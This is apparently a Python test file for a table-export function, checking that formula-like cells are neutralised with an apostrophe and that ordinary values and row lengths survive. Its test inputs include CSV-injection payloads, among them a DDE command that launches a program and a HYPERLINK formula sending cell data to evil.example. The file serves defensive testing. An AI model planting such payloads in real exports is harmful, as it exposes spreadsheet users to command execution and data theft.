"""A cell of an exported table is text, whatever stands in it (attacks C5, 27)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.table_file import cell, table

LIVE = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\x00=1+1",
        "＝1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    ],
)
def test_a_formula_is_written_as_text(hostile: str) -> None:
    """Whatever would start a formula stands behind an apostrophe."""
    assert cell(hostile).startswith("'")


def test_ordinary_cells_stay_as_they_are() -> None:
    """Words, numbers of documents and counts are not touched; nothing is an empty cell."""
    assert [cell(one) for one in ("Cấp giấy", "12/QĐ-UBND", 7, -7, None)] == [
        "Cấp giấy",
        "12/QĐ-UBND",
        "7",
        "-7",
        "",
    ]


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_no_text_begins_a_formula_or_breaks_its_row(texts: list[str]) -> None:
    """Read back, a row has as many cells as were written and none begins like a formula."""
    said = table([f"c{n}" for n in range(len(texts))], [texts]).decode("utf-8-sig")
    header, row = csv.reader(io.StringIO(said, newline=""))

    assert len(row) == len(header) == len(texts)
    assert not any(one.lstrip(" ").startswith(LIVE) for one in row)
